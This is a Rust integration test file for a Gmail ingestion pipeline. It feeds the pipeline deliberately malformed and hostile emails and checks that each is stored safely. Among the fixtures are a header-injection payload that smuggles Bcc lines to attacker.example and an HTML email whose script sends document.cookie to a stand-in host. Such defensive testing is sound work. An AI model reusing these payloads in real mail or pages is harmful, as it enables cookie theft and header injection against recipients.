//! Hostile mail through the whole pipeline: inserted through the
//! emulator's control API, synced, read back from the database. Every
//! message is stored (with `parse_error` where due), nothing panics, the
//! mailbox completes, and a huge message costs bounded memory.

use std::collections::BTreeMap;
use std::path::Path;

use gmail_ingest::domain::MailboxAddress;

use crate::helpers::{Backend, World, both_backends, small, world, world_with};

/// One stored row, reduced: (has parse_error, truncated, subject).
#[derive(Debug, Clone, PartialEq, Eq)]
struct Row {
    parse_error: bool,
    truncated: bool,
    subject: String,
}

async fn rows(w: &World, m: &MailboxAddress) -> BTreeMap<String, Row> {
    w.ctx
        .store
        .query_first_column(&format!(
            "SELECT gmail_id || '|' || CASE WHEN parse_error IS NULL THEN '-' ELSE 'E' END || '|' \
             || CASE WHEN truncated THEN 't' ELSE 'f' END || '|' || COALESCE(subject, '') \
             FROM messages WHERE mailbox = '{m}' AND deleted_at IS NULL"
        ))
        .await
        .expect("messages readable")
        .into_iter()
        .map(|r| {
            let mut f = r.splitn(4, '|');
            let id = f.next().unwrap_or_default().to_owned();
            let row = Row {
                parse_error: f.next() == Some("E"),
                truncated: f.next() == Some("t"),
                subject: f.next().unwrap_or_default().to_owned(),
            };
            (id, row)
        })
        .collect()
}

fn nested_multipart(depth: usize) -> Vec<u8> {
    let mut s = String::from("From: a@outside.example\r\nSubject: Nested\r\nMIME-Version: 1.0\r\n");
    for i in 0..depth {
        s.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n"
        ));
    }
    s.push_str("Content-Type: text/plain\r\n\r\nthe core\r\n");
    for i in (0..depth).rev() {
        s.push_str(&format!("--b{i}--\r\n"));
    }
    s.into_bytes()
}

fn many_headers(n: usize) -> Vec<u8> {
    let mut s = String::from("From: a@outside.example\r\nSubject: Many headers\r\n");
    for i in 0..n {
        s.push_str(&format!("X-Filler-{i}: value {i}\r\n"));
    }
    s.push_str("\r\nbody\r\n");
    s.into_bytes()
}

/// (name, raw) of every hostile message.
fn hostile() -> Vec<(&'static str, Vec<u8>)> {
    let mut nul =
        b"From: a@outside.example\r\nSubject: Nul\0in\0subject\r\n\r\nbody\0with\0nuls\r\n"
            .to_vec();
    nul.extend_from_slice(&[0, 0, 0xff, 0xfe, b'\r', b'\n']);
    vec![
        ("nested 300 deep", nested_multipart(300)),
        ("10,000 headers", many_headers(10_000)),
        (
            "invalid charset",
            b"From: a@outside.example\r\nSubject: =?x-no-such-charset?B?//79?=\r\n\
              Content-Type: text/plain; charset=\"x-no-such-charset\"\r\n\r\n\xff\xfe\xfd bytes\r\n"
                .to_vec(),
        ),
        ("NUL bytes", nul),
        (
            "broken base64",
            b"From: a@outside.example\r\nSubject: Broken base64\r\nMIME-Version: 1.0\r\n\
              Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n\
              SGVsbG8@@@!!!===\r\nnot*base64*at*all\r\n"
                .to_vec(),
        ),
        (
            "header injection",
            b"From: =?utf-8?q?Mallory=0D=0ABcc=3A_victim=40attacker=2Eexample?= <m@outside.example>\r\n\
              To: reader@example.com\r\n\
              Subject: =?utf-8?q?Hello=0D=0ABcc:_evil@attacker.example=0D=0A=0D=0Abody?=\r\n\r\nhi\r\n"
                .to_vec(),
        ),
        (
            "HTML with scripts",
            b"From: a@outside.example\r\nSubject: Script\r\nContent-Type: text/html\r\n\r\n\
              <html><body onload=\"steal()\"><script>document.location='http://x/'+document.cookie</script>\
              <p>Visible text</p><iframe src=\"javascript:alert(1)\"></iframe></body></html>\r\n"
                .to_vec(),
        ),
        ("binary junk", (0..=255u8).cycle().take(64 * 1024).collect()),
        (
            "unterminated multipart",
            b"From: a@outside.example\r\nSubject: Unterminated\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n\
              --zz\r\nContent-Type: text/plain\r\n\r\nnever closed"
                .to_vec(),
        ),
        (
            "header without body separator",
            b"From: a@outside.example\r\nSubject: Headers only".to_vec(),
        ),
    ]
}

async fn one_mailbox(w: &World) -> MailboxAddress {
    let m = w.shared_mailboxes().await.into_iter().next().unwrap();
    w.subscribe(&m).await;
    m
}

both_backends!(
    hostile_messages_are_all_stored_and_the_mailbox_completes,
    |b: Backend| async move {
        // Arrange.
        let Some(w) = world(b, small(2, 2)).await else {
            return;
        };
        let m = one_mailbox(&w).await;
        let mut ids = Vec::new();
        for (name, raw) in hostile() {
            ids.push((name, w.insert_raw(&m, &raw, &["INBOX"]).await));
        }

        // Act.
        let reports = w.sync(Some(&m)).await;

        // Assert.
        assert!(reports[0].outcome.is_ok(), "{:?}", reports[0].outcome);
        w.assert_converged(&m).await;
        let stored = rows(&w, &m).await;
        for (name, id) in &ids {
            assert!(stored.contains_key(id), "{name} was not stored");
        }
        let injection = &stored[&ids
            .iter()
            .find(|(n, _)| *n == "header injection")
            .unwrap()
            .1];
        assert!(
            !injection.subject.contains('\r') && !injection.subject.contains('\n'),
            "a decoded CRLF survived in the subject: {:?}",
            injection.subject
        );
        let smuggled = w
            .ctx
            .store
            .query_first_column(&format!(
                "SELECT address FROM message_addresses WHERE mailbox = '{m}' \
                 AND address LIKE '%attacker.example%'"
            ))
            .await
            .unwrap();
        assert!(
            smuggled.is_empty(),
            "an injected header became an address: {smuggled:?}"
        );
        let nul = &stored[&ids.iter().find(|(n, _)| *n == "NUL bytes").unwrap().1];
        assert!(
            !nul.subject.contains('\0'),
            "a NUL byte reached the database"
        );
        // A second pass is quiet: nothing refetched, nothing changes.
        let again = w.sync(Some(&m)).await;
        assert!(again[0].outcome.is_ok());
        assert_eq!(again[0].counts.added + again[0].counts.updated, 0);
    }
);

fn big_message(attachment_bytes: usize, tag: &str) -> Vec<u8> {
    use base64::Engine;
    let payload: Vec<u8> = (0..attachment_bytes)
        .map(|i| (i * 31 % 251) as u8)
        .collect();
    let b64 = base64::engine::general_purpose::STANDARD.encode(&payload);
    let mut s = format!(
        "From: a@outside.example\r\nSubject: Big {tag}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"big\"\r\n\r\n--big\r\n\
         Content-Type: text/plain\r\n\r\nSee attachment.\r\n--big\r\n\
         Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"big.bin\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n"
    );
    for line in b64.as_bytes().chunks(76) {
        s.push_str(std::str::from_utf8(line).unwrap());
        s.push_str("\r\n");
    }
    s.push_str("--big--\r\n");
    s.into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_40_mb_attachment_is_stored_truncated_above_the_limit_with_bounded_memory() {
    // Arrange: a limit between a 12 MB and a 40 MB message.
    let w = world_with(Backend::Sqlite, small(2, 1), |s| {
        s.sync.max_message_bytes = 30_000_000;
    })
    .await
    .unwrap();
    let m = one_mailbox(&w).await;
    let huge = big_message(40 * 1024 * 1024 / 4 * 3, "huge");
    let huge_len = huge.len() as u64;
    let big_id = w.insert_raw(&m, &huge, &["INBOX"]).await;
    drop(huge);
    let small_id = w
        .insert_raw(&m, &big_message(9_000_000, "medium"), &["INBOX"])
        .await;
    // Act: the real binary, its own peak RSS sampled while it runs (this
    // test process's peak would count the other tests running beside it).
    let cli = crate::chaos_helpers::WorldCli::new(
        &w,
        "[sync]\nmax_message_bytes = 30000000\nuser_quota_units_per_minute = 100000000\n",
    );
    let (status, stderr, peak_kib) = cli.sync_measured().await;

    // Assert.
    assert!(status.success(), "sync failed: {stderr}");
    let peak = peak_kib * 1024;
    w.assert_converged(&m).await;
    let stored = rows(&w, &m).await;
    assert!(
        stored[&big_id].truncated,
        "a message over the limit is marked truncated"
    );
    assert!(
        !stored[&small_id].truncated,
        "a message under the limit is whole"
    );
    let attachments = w
        .ctx
        .store
        .query_first_column(&format!(
            "SELECT filename FROM attachments WHERE mailbox = '{m}' AND gmail_id = '{big_id}'"
        ))
        .await
        .unwrap();
    assert_eq!(
        attachments,
        vec!["big.bin".to_owned()],
        "attachment metadata kept"
    );
    #[allow(clippy::print_stderr)]
    {
        eprintln!("40 MB sync: message {huge_len} bytes, peak RSS of the sync {peak} bytes");
    }
    // The answer is base64 in JSON (~1.37x) and the message is parsed once:
    // a few multiples of it, whatever the limit lets through.
    assert!(peak > 0, "VmHWM was read");
    assert!(
        peak <= 6 * huge_len,
        "syncing a {huge_len}-byte message took a peak RSS of {peak} bytes"
    );
}

fn eml_files(dir: &Path, out: &mut Vec<std::path::PathBuf>) {
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            eml_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "eml") {
            out.push(p);
        }
    }
}

both_backends!(
    every_golden_corpus_message_goes_through_the_pipeline_and_is_stored,
    |b: Backend| async move {
        // Arrange.
        let Some(w) = world(b, small(2, 1)).await else {
            return;
        };
        let m = one_mailbox(&w).await;
        let mut files = Vec::new();
        eml_files(
            &Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/eml"),
            &mut files,
        );
        files.sort();
        let mut ids = Vec::new();
        for f in &files {
            let raw = std::fs::read(f).unwrap();
            if raw.is_empty() {
                continue; // Gmail (and the emulator) refuse an empty message.
            }
            ids.push((f.clone(), w.insert_raw(&m, &raw, &["INBOX"]).await));
        }
        assert!(ids.len() >= 30, "only {} corpus files ran", ids.len());

        // Act.
        let reports = w.sync(Some(&m)).await;

        // Assert.
        assert!(reports[0].outcome.is_ok(), "{:?}", reports[0].outcome);
        w.assert_converged(&m).await;
        let stored = rows(&w, &m).await;
        for (f, id) in &ids {
            assert!(stored.contains_key(id), "{} was not stored", f.display());
        }
    }
);
